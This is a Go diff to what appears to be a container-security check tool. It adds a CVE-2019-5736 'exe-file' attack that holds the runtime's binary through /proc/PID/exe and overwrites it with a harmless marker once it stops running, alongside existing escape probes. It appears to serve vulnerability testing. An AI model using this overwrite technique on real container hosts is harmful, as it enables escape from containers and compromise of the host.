@@ -41,11 +41,12 @@ var attacks = map[string]attack{
 	"unshare":  {0, func([]string) error { return newNamespaces() }},
 	"exe":      {2, func(a []string) error { return overwriteRuntime(a[0], a[1]) }},
 	"exe-wait": {2, func(a []string) error { return waitToOverwrite(a[0], a[1]) }},
+	"exe-file": {2, func(a []string) error { return overwriteFile(a[0], a[1]) }},
 	"swap":     {2, func(a []string) error { return swapForCopy(a[0], a[1]) }},
 }
 
 const attackNames = "chroot FILE | disk MAJOR:MINOR | sysctl | sysrq | sysfs | hostps TAG | sniff TAG | " +
-	"rawsock | keyctl DESCRIPTION | ptrace | unshare | exe TAG SECONDS | swap PATH SECONDS"
+	"rawsock | keyctl DESCRIPTION | ptrace | unshare | exe TAG SECONDS | exe-file DEV:INO SECONDS | swap PATH SECONDS"
 
 func open(format string, args ...any) error {
 	fmt.Printf("open: "+format+"\n", args...)
@@ -363,8 +364,28 @@ func overwriteRuntime(tag, seconds string) error {
 // exeMarker is what the attack writes at the start of the runtime's binary.
 const exeMarker = "#!containerlabs CVE-2019-5736 was here\n"
 
+// overwriteFile is CVE-2019-5736 as it was first shown: the container gets the runtime's
+// binary run inside it (an exec of a script whose interpreter leads to /proc/self/exe) and
+// overwrites it once it stops running, as overwriteRuntime does. The target is named by its
+// device and inode numbers, DEV:INO, which the check read from its copy of the runtime: a
+// runtime that starts its init from a read-only mount of its binary shows the container a
+// path such as "/" for it, which no tag could match. It waits in the foreground.
+func overwriteFile(file, seconds string) error {
+	var dev, ino uint64
+	if _, err := fmt.Sscanf(file, "%d:%d", &dev, &ino); err != nil {
+		return fmt.Errorf("%q is not DEV:INO", file)
+	}
+	return holdAndOverwrite(seconds, func(target string, st unix.Stat_t) bool { return st.Dev == dev && st.Ino == ino })
+}
+
 // waitToOverwrite is the waiting half of overwriteRuntime.
 func waitToOverwrite(tag, seconds string) error {
+	return holdAndOverwrite(seconds, func(target string, st unix.Stat_t) bool { return strings.Contains(target, tag) })
+}
+
+// holdAndOverwrite holds the executable of every process that target accepts (by its
+// /proc/PID/exe link and its stat), and writes the first one that no process runs any more.
+func holdAndOverwrite(seconds string, target func(link string, st unix.Stat_t) bool) error {
 	limit, err := strconv.Atoi(seconds)
 	if err != nil {
 		return fmt.Errorf("%q is not a number of seconds", seconds)
@@ -388,28 +409,31 @@ func waitToOverwrite(tag, seconds string) error {
 	held := map[int]string{} // descriptor -> the path of the file it holds
 	tried := map[string]bool{}
 	reported := false
-	for end := time.Now().Add(time.Duration(limit) * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
+	// The runtime's binary may run in the container for a few milliseconds only.
+	for end := time.Now().Add(time.Duration(limit) * time.Second); time.Now().Before(end); time.Sleep(2 * time.Millisecond) {
 		entries, _ := os.ReadDir(proc)
 		for _, e := range entries {
 			if _, err := strconv.Atoi(e.Name()); err != nil || tried[e.Name()] {
 				continue
 			}
-			tried[e.Name()] = true
+			// A process that may not be looked at yet (a runtime's init is not dumpable
+			// until it execs) is looked at again on the next pass.
 			link := filepath.Join(proc, e.Name(), "exe")
-			target, err := os.Readlink(link)
-			if err != nil || !strings.Contains(target, tag) {
+			name, err := os.Readlink(link)
+			if err != nil {
 				continue
 			}
 			fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
 			if err != nil {
-				fmt.Printf("PID %s runs %s, but its exe cannot be opened: %v\n", e.Name(), target, err)
 				continue
 			}
+			tried[e.Name()] = true
 			var st unix.Stat_t
-			if unix.Fstat(fd, &st) == nil && st.Dev == self.Dev && st.Ino == self.Ino {
+			if unix.Fstat(fd, &st) != nil || (st.Dev == self.Dev && st.Ino == self.Ino) || !target(name, st) {
 				unix.Close(fd)
 				continue
 			}
+			target := name
 			held[fd] = target
 			fmt.Printf("holding %s, the binary of PID %s\n", target, e.Name())
 		}
@@ -425,9 +449,7 @@ func waitToOverwrite(tag, seconds string) error {
 				continue // still running somewhere: wait
 			}
 			if err != nil {
-				fmt.Printf("reopen %s for writing: %v\n", target, err)
-				delete(held, fd)
-				continue
+				return closed("reopen %s for writing: %v", target, err)
 			}
 			_, err = f.WriteAt([]byte(exeMarker), 0)
 			f.Close()
